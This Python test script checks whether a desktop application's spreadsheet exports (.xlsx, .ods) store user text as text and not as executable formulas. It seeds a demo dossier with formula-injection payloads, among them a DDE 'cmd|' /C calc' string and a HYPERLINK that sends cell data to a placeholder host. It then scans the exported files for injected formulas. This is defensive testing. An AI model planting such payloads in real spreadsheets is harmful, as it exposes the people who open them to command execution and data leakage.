"""Injected cells: does every workbook the application writes store text as text?

A name can come from a drawn list, a préfecture's workbook or a typing slip: ``=HYPERLINK``,
``+cmd|…``, ``@SUM``, ``-2+3`` must come out as the same text, never as a formula a
spreadsheet would run. The demo dossier gets such values in a holder, an action's title and
observations, a funder and a council member (name, e-mail); then each workbook writer of the
operations layer writes its file, in .xlsx and .ods, and every formula in those files is
read back: a formula holding one of the values is an injected cell. (The application's own
totals are formulas too, ``SUM(D5:D54)``: they hold none of the values.)

Run as a script (``injection.py FOLDER``), it prints the figures as JSON: the kill loops
call it in a fresh interpreter, so that it can also measure an older checkout
(``CODE_ROOT``).
"""

from __future__ import annotations

import html
import json
import re
import sys
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = {
    "holder": '=HYPERLINK("http://exemple.invalid/?d="&A1,"Cliquez ici")',
    "title": "+cmd|' /C calc'!A0",
    "observations": "@SUM(1+1)*cmd|' /C calc'!A0",
    "funder": "=1+1",
    "person": '=HYPERLINK("http://exemple.invalid","Marie Curie")',
    "other person": "-2+3+cmd|' /C calc'!A0",
    "email": '=HYPERLINK("mailto:x@exemple.invalid")',
}
MARKERS = ("HYPERLINK", "cmd|", "1+1")
_XLSX_FORMULA = re.compile(r"<f(?:\s[^>]*)?>(.*?)</f>", re.S)
_ODS_FORMULA = re.compile(r'table:formula="([^"]*)"')


def formulas(path: Path) -> list[str]:
    """Every formula stored in an .xlsx or .ods file, as written."""
    found: list[str] = []
    with zipfile.ZipFile(path) as archive:  # by content: an old writer put xlsx in .ods
        for name in archive.namelist():
            if name == "content.xml":
                found += _ODS_FORMULA.findall(archive.read(name).decode())
            elif name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += _XLSX_FORMULA.findall(archive.read(name).decode())
    return [html.unescape(formula) for formula in found]


def injected(path: Path) -> list[str]:
    return [f for f in formulas(path) if any(marker in f for marker in MARKERS)]


def poison(dossier_path: Path) -> dict[str, int]:
    """Put the hostile values in the demo dossier; the ids of what was changed."""
    from contrat_desktop.storage.database import open_dossier

    with open_dossier(dossier_path, daily_backup=False) as dossier, dossier.db.atomic():
        db = dossier.db
        action_id, holder_id = db.execute(
            "SELECT a.id, a.holder_id FROM action a JOIN campaign c ON c.id = a.campaign_id "
            "ORDER BY c.year DESC, a.id LIMIT 1"
        ).fetchone()
        db.execute("UPDATE holder SET legal_name = ? WHERE id = ?", [PAYLOADS["holder"], holder_id])
        db.execute(
            "UPDATE action SET title = ?, observations = ? WHERE id = ?",
            [PAYLOADS["title"], PAYLOADS["observations"], action_id],
        )
        funder_id = db.execute(
            "SELECT funder_id FROM funding_line WHERE action_id = ? LIMIT 1", [action_id]
        ).fetchone()[0]
        db.execute("UPDATE funder SET name = ? WHERE id = ?", [PAYLOADS["funder"], funder_id])
        (person_id, council_id), (other_id, _) = db.execute(
            "SELECT person_id, council_id FROM council_member "
            "ORDER BY exit_date IS NOT NULL, id LIMIT 2"
        ).fetchall()
        db.execute(
            "UPDATE person SET name = ?, email = ? WHERE id = ?",
            [PAYLOADS["person"], PAYLOADS["email"], person_id],
        )
        db.execute("UPDATE person SET name = ? WHERE id = ?", [PAYLOADS["other person"], other_id])
    return {"person": person_id, "council": council_id, "action": action_id}


def written_workbooks(dossier_path: Path, folder: Path) -> tuple[list[Path], list[str]]:
    """Each workbook the operations write, in each format; and the writers that failed."""
    from contrat_desktop.storage.database import open_dossier

    ids = poison(dossier_path)
    writers = _writers(ids, folder)
    written, failed = [], []
    with open_dossier(dossier_path, read_only=True) as dossier:
        for name, write in writers.items():
            for suffix in (".xlsx", ".ods"):
                target = folder / f"{name}{suffix}"
                try:
                    write(dossier, target)
                except Exception as error:
                    if "doit se terminer par" not in str(error):  # a format it does not offer
                        failed.append(f"{target.name}: {type(error).__name__}: {error}")
                    continue
                written.append(target)
    return written, failed


def _writers(ids: dict[str, int], folder: Path) -> dict[str, Callable[[Any, Path], object]]:
    def programmation(dossier: Any, target: Path) -> object:
        from contrat_desktop.operations.programmation_export import export_programmation

        year = dossier.db.execute("SELECT max(year) FROM campaign").fetchone()[0]
        return export_programmation(dossier, year, target)

    def members(dossier: Any, target: Path) -> object:
        from contrat_desktop.operations.council_members import export_council_members

        return export_council_members(dossier, ids["council"], target, date(2015, 6, 1))

    def person(dossier: Any, target: Path) -> object:
        from contrat_desktop.operations.council_privacy import export_person

        return export_person(dossier, ids["person"], target)

    def journal(dossier: Any, target: Path) -> object:
        from contrat_desktop.domain.journal import JournalFilter
        from contrat_desktop.operations.journal import write_journal
        from contrat_desktop.operations.programmation import load_references

        names = load_references(dossier).names()
        return write_journal(dossier, JournalFilter(), target, names)

    def errors(dossier: Any, target: Path) -> object:
        from contrat_desktop.operations.imports import plan_import, save_error_list

        plan = plan_import(dossier, _return_with_bad_rows(folder))
        return save_error_list(plan, target)

    return {
        "programmation": programmation,
        "membres-du-conseil": members,
        "donnees-personnelles": person,
        "journal": journal,
        "erreurs-d-import": errors,
    }


def _return_with_bad_rows(folder: Path) -> Path:
    """A returned workbook whose unreadable cells hold the hostile values (they are shown
    again in the list of errors)."""
    import xlsxwriter

    path = folder / "retour-errone.xlsx"
    if not path.exists():
        book = xlsxwriter.Workbook(str(path))
        sheet = book.add_worksheet("Programmation")
        sheet.write_row(0, 0, ["Référence", "Intitulé de l'action", "Début", "Montant demandé"])
        for row, value in enumerate(PAYLOADS.values(), start=1):
            sheet.write_string(row, 0, f"2016-CS-{900 + row}")
            sheet.write_string(row, 1, value)
            sheet.write_string(row, 2, value)  # not a date
            sheet.write_string(row, 3, value)  # not an amount
        book.close()
    return path


def measure(folder: Path) -> dict[str, Any]:
    from contrat_desktop.operations.dossiers import create_dossier
    from contrat_desktop.samples import fill_demo

    folder.mkdir(parents=True, exist_ok=True)
    dossier = create_dossier(folder / "demo-piege.cdv", fill=fill_demo, force=True)
    written, failed = written_workbooks(dossier, folder)
    cells = {path.name: injected(path) for path in written}
    return {
        "workbooks": len(written),
        "injected_cells": sum(len(found) for found in cells.values()),
        "injected": {name: found for name, found in cells.items() if found},
        "writers_failed": failed,
    }


if __name__ == "__main__":
    sys.path.insert(0, str(ROOT))
    print(json.dumps(measure(Path(sys.argv[1])), ensure_ascii=False))
